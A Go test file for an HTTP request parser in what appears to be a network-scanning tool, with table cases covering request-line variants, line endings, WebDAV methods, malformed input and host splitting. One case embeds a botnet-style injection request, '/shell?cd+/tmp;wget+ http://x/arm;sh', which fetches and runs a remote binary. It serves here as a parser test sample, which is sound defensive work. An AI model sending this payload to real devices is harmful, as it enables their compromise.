package httpinfo_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/spyscan/spyscan/internal/network/httpinfo"
)

func TestParseRequest(t *testing.T) {
	tests := []struct {
		in         string
		host, url  string
		ua         string
		err        error
		headLength int
	}{
		{"GET /a?b=1 HTTP/1.1\r\nhost: Example.com\r\nUser-Agent: x/1\r\n\r\nbody", "Example.com", "http://Example.com/a?b=1", "x/1", nil, 59},
		{"GET http://proxy.example/x HTTP/1.0\r\n\r\n", "", "http://proxy.example/x", "", nil, 39},
		{"CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n", "a.example:443", "", "", nil, 55},
		{"GET / HTTP/1.1\r\nHost: a", "", "", "", httpinfo.ErrIncomplete, 0},
		{"\x16\x03\x01\x00", "", "", "", httpinfo.ErrNotHTTP, 0},
		{"GET nonsense\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
		// request-line variants servers and tshark read (issue 11: the
		// differential suite's Zeek, Suricata and nDPI captures)
		{"GET                  /long HTTP/1.1\r\nHost: www.lan:8080\r\n\r\n", "www.lan:8080", "http://www.lan:8080/long", "", nil, 59},
		{"GET  /  HTTP/1.1\r\nHost: a\r\n\r\n", "a", "http://a/", "", nil, 29},
		{"GET /shell?cd+/tmp;wget+ http://x/arm;sh HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n", "127.0.0.1:80", "http://127.0.0.1:80/shell?cd+/tmp;wget+ http://x/arm;sh", "", nil, 73},
		{"GET HTTP/1.1\r\nHost: bro.org\r\n\r\n", "bro.org", "http://bro.org/", "", nil, 31},
		{"OPTIONS * HTTP/1.1\nHost: www.google.com\n\n", "www.google.com", "http://www.google.com/", "", nil, 41},
		// bare LF line ends, and a mix
		{"GET / HTTP/1.1\nHost: zeek.org\nUser-Agent: u\n\nGET", "zeek.org", "http://zeek.org/", "u", nil, 45},
		{"GET / HTTP/1.1\r\nHost: h\n\r\n", "h", "http://h/", "", nil, 26},
		// empty lines before the request line (RFC 9112 §2.2), as between
		// pipelined requests
		{"\r\n\r\nGET /two/ HTTP/1.1\r\nHost: two.example.org\r\n\r\n", "two.example.org", "http://two.example.org/two/", "", nil, 49},
		{"\nGET / HTTP/1.1\nHost: localhost\n\n", "localhost", "http://localhost/", "", nil, 33},
		{"\r\n\r\n", "", "", "", httpinfo.ErrIncomplete, 0},
		// WebDAV and other methods
		{"PROPFIND /webdav HTTP/1.1\r\nHost: www.dlp-test.com\r\n\r\n", "www.dlp-test.com", "http://www.dlp-test.com/webdav", "", nil, 53},
		{"MKCOL /d/ HTTP/1.1\r\nHost: d\r\n\r\n", "d", "http://d/d/", "", nil, 31},
		{"VERSION-CONTROL /v HTTP/1.1\r\nHost: v\r\n\r\n", "v", "http://v/v", "", nil, 40},
		{"M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\n\r\n", "239.255.255.250:1900", "http://239.255.255.250:1900/", "", nil, 51},
		// not HTTP: unknown tokens, no version, a lower-case method
		{"EHLO mail.example HTTP/1.1\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
		{"get / HTTP/1.1\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
		{"GET\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
		{"GET /\r\n\r\n", "", "", "", httpinfo.ErrNotHTTP, 0},
	}
	for _, tc := range tests {
		r, n, err := httpinfo.ParseRequest([]byte(tc.in))
		if !errors.Is(err, tc.err) {
			t.Errorf("%q: err %v, want %v", tc.in, err, tc.err)
			continue
		}
		if err != nil {
			continue
		}
		if r.Host != tc.host || r.URL() != tc.url || r.UserAgent != tc.ua || n != tc.headLength {
			t.Errorf("%q: got %+v url %q n %d", tc.in, r, r.URL(), n)
		}
	}
	// an endless head is parsed up to the bound, not waited for forever
	big := "GET / HTTP/1.1\r\nHost: h\r\nX: " + strings.Repeat("a", httpinfo.MaxHead)
	if r, _, err := httpinfo.ParseRequest([]byte(big)); err != nil || r.Host != "h" {
		t.Errorf("bounded head: %v", err)
	}
}

func FuzzParseRequest(f *testing.F) {
	f.Add([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n"))
	f.Add([]byte("POST http://x/ HTTP/1.0\r\n\r\n"))
	f.Add([]byte("\r\nPROPFIND  /a b  HTTP/1.1\nHost: h\n\n"))
	f.Add([]byte("OPTIONS HTTP/1.1\r\n\r\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		r, n, err := httpinfo.ParseRequest(b)
		if err == nil && (n > len(b) || n <= 0 || r == nil) {
			t.Fatalf("head length %d of %d", n, len(b))
		}
		if err == nil && (!httpinfo.LooksLikeRequest(b) || !strings.HasPrefix(r.Version, "HTTP/")) {
			t.Fatalf("read %q as a request: %+v", b, r)
		}
		if len(b) > 2*httpinfo.MaxHead {
			t.Skip() // the bound below is checked on inputs past it
		}
		if err == nil && n > len(b)-len(strings.TrimLeft(string(b), "\r\n"))+httpinfo.MaxHead {
			t.Fatalf("read %d bytes, past the head bound", n)
		}
	})
}

func TestSplitHost(t *testing.T) {
	tests := []struct {
		in   string
		name string
		ip   string
		ok   bool
	}{
		{"Example.COM", "example.com", "", true},
		{"example.com:8080", "example.com", "", true},
		{"example.com.", "example.com", "", true},
		{"[::1]:8000", "", "::1", true},
		{"[2001:DB8::7]", "", "2001:db8::7", true},
		{"198.51.100.7:80", "", "198.51.100.7", true},
		{"198.51.100.7", "", "198.51.100.7", true},
		{"[", "", "", false},
		{"[::1", "", "", false},
		{"[::1]x", "", "", false},
		{"[198.51.100.7]", "", "", false},
		{"example.com:http", "", "", false},
		{"a b", "", "", false},
		{"", "", "", false},
	}
	for _, tc := range tests {
		name, ip, ok := httpinfo.SplitHost(tc.in)
		got := ""
		if ip.IsValid() {
			got = ip.String()
		}
		if name != tc.name || got != tc.ip || ok != tc.ok {
			t.Errorf("%q: %q %q %v, want %q %q %v", tc.in, name, got, ok, tc.name, tc.ip, tc.ok)
		}
	}
}
